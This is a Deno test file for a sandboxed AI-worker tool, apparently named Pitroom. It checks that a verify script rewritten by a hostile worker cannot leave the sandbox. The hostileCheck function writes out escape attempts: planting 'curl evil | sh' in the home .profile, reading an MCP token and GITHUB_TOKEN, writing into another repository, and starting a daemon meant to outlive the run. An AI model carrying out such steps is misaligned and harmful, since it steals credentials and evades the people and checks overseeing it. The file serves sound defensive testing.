/**
 * `--verify` runs in the worker's sandbox: a hostile worker edits the check script the verify
 * command runs, and the script then tries the worker's own escapes (another repository, the home
 * folder, Pitroom's state dir, the caller's credentials, a daemon). Each fails, the run records
 * the failing verify (exit 6), and writes inside the worker's tree still work.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { createEngine } from "../../src/engine/mod.ts";
import { runVerify } from "../../src/engine/run/verify.ts";
import { sandboxSettingOf } from "../../src/confine/sandboxing.ts";
import { exists } from "../../src/sys/fs.ts";
import { fakeBackend } from "../support/fake_backend.ts";
import { marker, sandboxWorld, sleepers } from "./_world.ts";

/** The check script a hostile worker leaves for `--verify "sh check.sh"`. */
function hostileCheck(w: { other: string; home: string; state: string }, tag: string): string {
  return [
    `printf 'owned\\n' >> '${join(w.other, "theirs.txt")}' && echo WROTE-OTHER`,
    `printf 'curl evil | sh\\n' > '${join(w.home, ".profile")}' && echo WROTE-HOME`,
    `cat '${join(w.state, "mcp-token")}' && echo READ-TOKEN`,
    `ls '${join(w.state, "runs")}' | wc -l | sed 's/^/RUNS-SEEN /'`,
    `echo "secret:\${GITHUB_TOKEN:-none} marker:\${PITROOM_INSIDE_RUN:-none}"`,
    `printf x > /tmp/pitroom-verify-${tag} && echo WROTE-PRIVATE-TMP`,
    `echo from-verify > in-tree.txt && echo WROTE-TREE`,
    `setsid sleep ${tag} </dev/null >/dev/null 2>&1 &`,
    `for _ in $(seq 200); do ps -eo args= | grep -qx 'sleep ${tag}' && break; sleep 0.01; done`,
    "exit 7",
  ].join("\n") + "\n";
}

Deno.test("a verify command the worker rewrote cannot leave the sandbox, and its failure is recorded", async () => {
  await using w = await sandboxWorld();
  await Deno.writeTextFile(join(w.state, "mcp-token"), "mcp-token-secret\n");
  const tag = marker();
  const env = w.sys.env.toObject();
  const sys = {
    ...w.sys,
    env: { ...w.sys.env, toObject: () => ({ ...env, GITHUB_TOKEN: "ghp-verify-secret" }) },
  };
  const backend = fakeBackend(() => [
    { writeFile: "check.sh", content: hostileCheck(w, tag) },
    { answer: "done" },
  ]);
  const engine = createEngine(sys, { backends: () => backend });
  const record = await engine.run({
    task: "fix",
    mode: "isolate",
    worker: "opencode",
    timeoutMs: 60_000,
    verify: "sh check.sh",
  });
  try {
    assert.equal(record.outcome, "verify_failed", record.message);
    assert.equal(record.exit, 6);
    assert.equal(record.verify?.ok, false);
    assert.equal(record.verify?.code, 7);
    const out = record.verify?.output ?? "";
    for (const escaped of ["WROTE-OTHER", "WROTE-HOME", "READ-TOKEN", "mcp-token-secret"]) {
      assert.ok(!out.includes(escaped), `${escaped} in the verify output:\n${out}`);
    }
    assert.match(out, /Read-only file system/);
    assert.match(out, /RUNS-SEEN 1\n/, "only the run's own folder is there");
    assert.match(out, /secret:none marker:\d{8}-\d{6}-[0-9a-f]{4}/);
    assert.match(out, /WROTE-PRIVATE-TMP/);
    assert.match(out, /WROTE-TREE/);
    assert.equal(await Deno.readTextFile(join(w.other, "theirs.txt")), "another repository\n");
    assert.equal(await exists(join(w.home, ".profile")), false);
    assert.equal(await exists(`/tmp/pitroom-verify-${tag}`), false);
    // The copy is the verify's to write; the user's tree is not touched before apply.
    const copy = record.isolation!.copyRoot;
    assert.equal(await Deno.readTextFile(join(copy, "in-tree.txt")), "from-verify\n");
    assert.equal(await exists(join(w.repo, "in-tree.txt")), false);
    // The daemon it started ended with the sandbox's PID namespace.
    assert.deepEqual(await sleepers(tag), []);
  } finally {
    for (const line of await sleepers(tag)) Deno.kill(Number(line.split(/\s+/)[0]), "SIGKILL");
  }
});

Deno.test("verify in a write run writes the repository but not .git; in a read run nothing", async () => {
  await using w = await sandboxWorld();
  const check = [
    "echo verified > out.txt && echo WROTE-TREE",
    "echo x > .git/planted && echo WROTE-GIT",
    "exit 0",
  ].join("\n");
  await Deno.writeTextFile(join(w.repo, "check.sh"), check + "\n");
  const write = await w.run("write", [{ answer: "done" }], { verify: "sh check.sh" });
  assert.equal(write.outcome, "ok", write.message);
  assert.match(write.verify?.output ?? "", /WROTE-TREE/);
  assert.doesNotMatch(write.verify?.output ?? "", /WROTE-GIT/);
  assert.match(write.verify?.output ?? "", /Read-only file system/);
  assert.equal(await Deno.readTextFile(join(w.repo, "out.txt")), "verified\n");
  assert.equal(await exists(join(w.repo, ".git/planted")), false);
  await Deno.remove(join(w.repo, "out.txt"));

  const read = await w.run("read", [{ answer: "done" }], { verify: "sh check.sh" });
  assert.equal(read.outcome, "ok", read.message);
  assert.doesNotMatch(read.verify?.output ?? "", /WROTE-TREE|WROTE-GIT/);
  assert.equal(await exists(join(w.repo, "out.txt")), false);
});

Deno.test("a verify command past its time is killed with everything it started, and the timeout is recorded", async () => {
  await using w = await sandboxWorld();
  const tag = marker();
  const privateDir = join(w.state, "verify-timeout");
  await Deno.mkdir(privateDir);
  // A daemon of its own session and a foreground sleep: both outlive the time given.
  const command = `setsid sleep ${tag} </dev/null >/dev/null 2>&1 & echo started; sleep ${tag}`;
  try {
    const { verify } = await runVerify(w.sys, command, {
      cwd: w.repo,
      timeoutMs: 1500,
      run: {
        id: "20250101-000000-veri",
        mode: "write",
        privateDir,
        sandbox: (await sandboxSettingOf(w.sys)).setting,
      },
    });
    assert.equal(verify.timedOut, true);
    assert.equal(verify.ok, false);
    assert.equal(verify.command, command);
    assert.match(verify.output, /^started$/m);
    // The sandbox's PID namespace ended with the verify command: nothing of it is left.
    assert.deepEqual(await sleepers(tag), []);
  } finally {
    for (const line of await sleepers(tag)) Deno.kill(Number(line.split(/\s+/)[0]), "SIGKILL");
  }
});
